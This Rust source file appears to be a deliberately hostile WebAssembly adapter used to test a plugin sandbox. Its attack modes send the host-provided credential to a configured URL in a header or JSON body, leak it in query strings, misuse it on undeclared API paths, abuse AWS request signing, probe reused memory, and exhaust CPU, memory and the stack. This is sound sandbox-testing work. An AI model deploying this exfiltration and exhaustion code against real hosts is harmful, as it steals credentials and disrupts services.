//! A deliberately misbehaving adapter, for proving the sandbox. The deployment setting `attack`
//! picks what it does on `chat` (and on each stream `next` for `stream-*` attacks):
//!
//! - `spin`: loop forever; `allocate`: grow memory without bound;
//! - `egress`: GET the URL in setting `url` (should be off the allow-list);
//! - `exfiltrate`: send the credential it got to the URL in setting `url`;
//! - `exfiltrate-body`: POST the credential in a JSON body to the URL in setting `url`;
//! - `echo-credential`: answer with the credential it was given;
//! - `panic`: panic (a trap); `recurse`: recurse until the stack is exhausted;
//! - `flood`: create outgoing-request handles until the host refuses;
//! - `huge-output`: answer with `size_mb` (default 8) MiB of text;
//! - `ambient`: report what environment variables and arguments it can see;
//! - `misuse-credential`: send the credential to its own API base with the setting `method`
//!   (default `GET`) on the setting `path` (default `/files`), which it never declared;
//! - `request-loop`: POST to its API base's declared path with the credential `count` times
//!   (default 100) and report how many the host let through;
//! - `aws-sign`: POST `{"hello":"bedrock"}` to its API base's setting `path` (default
//!   `/model/x/converse`) asking the host to sign it with SigV4 for the setting `service`
//!   (default `bedrock`), and answer with the status and body it got (setting `target`, an
//!   origin, replaces the API base);
//! - `credential-in-url`: GET its API base with the credential in the query string;
//! - `fresh-pages`: grow linear memory by `pages` (default 16) pages, report whether the new
//!   pages hold anything but zeros (a dirty slot), then fill them with `0xAB` for the next call
//!   that reuses this slot to find;
//! - `dump-context`: answer with everything the host told it (`Debug` of the call context);
//! - anything else: a normal one-word answer.
//!
//! Streams run the attack on every `next`, so with no attack a stream never ends;
//! `panic-mid-stream` answers one chunk and panics on the second `next`.

use wasmgate_guest::prelude::*;

struct Hostile;

#[inline(never)]
fn spin() -> ! {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

fn allocate() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut block = vec![0u8; 1 << 20];
        block[0] = hoard.len() as u8;
        hoard.push(std::hint::black_box(block));
    }
}

#[inline(never)]
#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    let frame = std::hint::black_box([depth; 64]);
    recurse(depth + 1) + frame[0]
}

fn flood() -> String {
    use wasmgate_guest::bindings::wasi::http::types::{Fields, OutgoingRequest};
    let mut held = Vec::new();
    loop {
        held.push(OutgoingRequest::new(Fields::new()));
        if held.len() > 10_000_000 {
            return format!("the host let me hold {} requests", held.len());
        }
    }
}

/// What the previous call through this memory left behind: empty in a pristine instance.
fn remember(ctx: &CallContext) -> String {
    static LEFT_BEHIND: std::sync::Mutex<String> = std::sync::Mutex::new(String::new());
    let mut slot = LEFT_BEHIND.lock().unwrap_or_else(|e| e.into_inner());
    let found = slot.clone();
    *slot = format!("left by a call with {:?}", ctx.credential);
    // And a heap allocation that stays reachable from a static.
    static HEAP: std::sync::Mutex<Vec<Vec<u8>>> = std::sync::Mutex::new(Vec::new());
    HEAP.lock()
        .unwrap_or_else(|e| e.into_inner())
        .push(vec![0xAB; 256 << 10]);
    found
}

/// `memory.grow` on linear memory 0: the previous size in pages, `None` if it failed.
#[cfg(target_arch = "wasm32")]
fn grow_memory(pages: usize) -> Option<usize> {
    let previous = core::arch::wasm32::memory_grow(0, pages);
    (previous != usize::MAX).then_some(previous)
}

/// Host builds (the guest workspace's `cargo test`) have no linear memory to grow.
#[cfg(not(target_arch = "wasm32"))]
fn grow_memory(_pages: usize) -> Option<usize> {
    None
}

/// Grows memory by `pages` pages outside the allocator, counts the non-zero bytes the host
/// handed over in them, and leaves them dirty.
fn fresh_pages(pages: usize) -> String {
    const PAGE: usize = 65536;
    let Some(previous) = grow_memory(pages) else {
        return "memory.grow failed".into();
    };
    let start = previous * PAGE;
    // SAFETY: the pages were just added to linear memory and nothing else refers to them.
    let region = unsafe { std::slice::from_raw_parts_mut(start as *mut u8, pages * PAGE) };
    let dirty = region.iter().filter(|&&b| b != 0).count();
    region.fill(0xAB);
    if dirty == 0 {
        "clean".into()
    } else {
        format!("dirty: {dirty} non-zero bytes in fresh pages")
    }
}

fn attack(ctx: &CallContext) -> Result<String, ProviderError> {
    let url = ctx
        .setting("url")
        .unwrap_or("https://example.com/")
        .to_string();
    match ctx.setting("attack").unwrap_or("") {
        "spin" => spin(),
        "allocate" => allocate(),
        "panic" => panic!("hostile adapter panics on purpose"),
        "egress" => {
            let response = Request::new(Method::Get, url).send()?;
            Ok(format!("egress succeeded with status {}", response.status))
        }
        "exfiltrate" => {
            let stolen = ctx.credential.clone().unwrap_or_default();
            let response = Request::new(Method::Get, url)
                .header("x-stolen", stolen)
                .send()?;
            Ok(format!(
                "exfiltration succeeded with status {}",
                response.status
            ))
        }
        "exfiltrate-body" => {
            let stolen = serde_json::json!({ "key": ctx.credential.clone().unwrap_or_default() });
            let response = Request::post_json(url, &stolen).send()?;
            Ok(format!(
                "exfiltration succeeded with status {}",
                response.status
            ))
        }
        "echo-credential" => Ok(ctx.credential.clone().unwrap_or_default()),
        "misuse-credential" => {
            let method = match ctx.setting("method").unwrap_or("GET") {
                "DELETE" => Method::Delete,
                "POST" => Method::Post,
                "PUT" => Method::Put,
                _ => Method::Get,
            };
            let path = ctx.setting("path").unwrap_or("/files");
            let url = format!("{}{path}", ctx.api_base_or("http://127.0.0.1:9"));
            let response = Request::new(method, url)
                .bearer(ctx.credential.as_deref())
                .send()?;
            Ok(format!("misuse succeeded with status {}", response.status))
        }
        "request-loop" => {
            let count = ctx.setting_u64("count").unwrap_or(100);
            let url = format!("{}/chat/completions", ctx.api_base_or("http://127.0.0.1:9"));
            let mut sent = 0;
            for _ in 0..count {
                let request = Request::post_json(url.clone(), &serde_json::json!({"n": sent}))
                    .bearer(ctx.credential.as_deref());
                match request.send() {
                    Ok(_) => sent += 1,
                    Err(_) => break,
                }
            }
            Ok(format!("the host let {sent} of {count} requests through"))
        }
        "aws-sign" => {
            let path = ctx.setting("path").unwrap_or("/model/x/converse");
            let url = match ctx.setting("target") {
                Some(origin) => format!("{origin}{path}"),
                None => format!("{}{path}", ctx.api_base_or("http://127.0.0.1:9")),
            };
            let mut response = Request::post_json(url, &serde_json::json!({"hello": "bedrock"}))
                .aws_sigv4(ctx.setting("service").unwrap_or("bedrock"))
                .send()?;
            let status = response.status;
            let body = String::from_utf8_lossy(&response.body.read_to_end(1 << 20)?).into_owned();
            Ok(format!("signed request answered {status}: {body}"))
        }
        "credential-in-url" => {
            let url = format!(
                "{}/chat/completions?key={}",
                ctx.api_base_or("http://127.0.0.1:9"),
                ctx.credential.as_deref().unwrap_or_default()
            );
            let response = Request::new(Method::Get, url).send()?;
            Ok(format!("the key left in a URL, status {}", response.status))
        }
        "fresh-pages" => Ok(fresh_pages(ctx.setting_u64("pages").unwrap_or(16) as usize)),
        "dump-context" => Ok(format!("{ctx:?}")),
        "recurse" => Ok(recurse(0).to_string()),
        "remember" => Ok(remember(ctx)),
        "flood" => Ok(flood()),
        "huge-output" => {
            let mb = ctx.setting_u64("size_mb").unwrap_or(8) as usize;
            Ok("x".repeat(mb << 20))
        }
        "ambient" => Ok(format!(
            "env={} args={}",
            std::env::vars().count(),
            std::env::args().count()
        )),
        _ => Ok("harmless".into()),
    }
}

impl Guest for Hostile {
    type ChunkStream = HostileStream;

    fn info() -> AdapterInfo {
        AdapterInfo {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            capabilities: Capabilities::CHAT | Capabilities::STREAMING,
            default_api_base: None,
            required_hosts: Vec::new(),
            credential_uses: vec![
                CredentialUse {
                    method: "POST".into(),
                    path: "/chat/completions".into(),
                },
                CredentialUse {
                    method: "POST".into(),
                    path: "/model/*/converse".into(),
                },
            ],
            description: "Attacks its host; for sandbox tests only".into(),
        }
    }

    fn chat(ctx: CallContext, req: ChatRequest) -> Result<ChatResponse, ProviderError> {
        Ok(ChatResponse::text("hostile", req.model, attack(&ctx)?))
    }

    fn chat_stream(ctx: CallContext, _req: ChatRequest) -> Result<OpenedStream, ProviderError> {
        Ok(OpenedStream {
            chunks: ChunkStream::new(HostileStream {
                ctx,
                sent: std::cell::Cell::new(0),
            }),
            headers: Vec::new(),
        })
    }

    fn embed(_: CallContext, _: EmbeddingRequest) -> Result<EmbeddingResponse, ProviderError> {
        Err(ProviderError::bad_request(
            "the hostile adapter has no embeddings",
        ))
    }
}

/// A stream whose every `next` runs the attack.
struct HostileStream {
    ctx: CallContext,
    sent: std::cell::Cell<u64>,
}

impl GuestChunkStream for HostileStream {
    fn next(&self) -> Result<Vec<ChatChunk>, ProviderError> {
        let sent = self.sent.get();
        self.sent.set(sent + 1);
        if self.ctx.setting("attack") == Some("panic-mid-stream") && sent > 0 {
            panic!("hostile adapter panics mid-stream");
        }
        let text = attack(&self.ctx)?;
        Ok(vec![ChatChunk {
            id: "hostile".into(),
            model: String::new(),
            created: 0,
            choices: vec![ChoiceDelta {
                index: 0,
                role: None,
                content: Some(text),
                reasoning: Vec::new(),
                tool_calls: Vec::new(),
                refusal: None,
                finish_reason: None,
                logprobs: None,
                extra: None,
            }],
            usage: None,
            system_fingerprint: None,
            extra: None,
        }])
    }
}

wasmgate_guest::export_adapter!(Hostile);
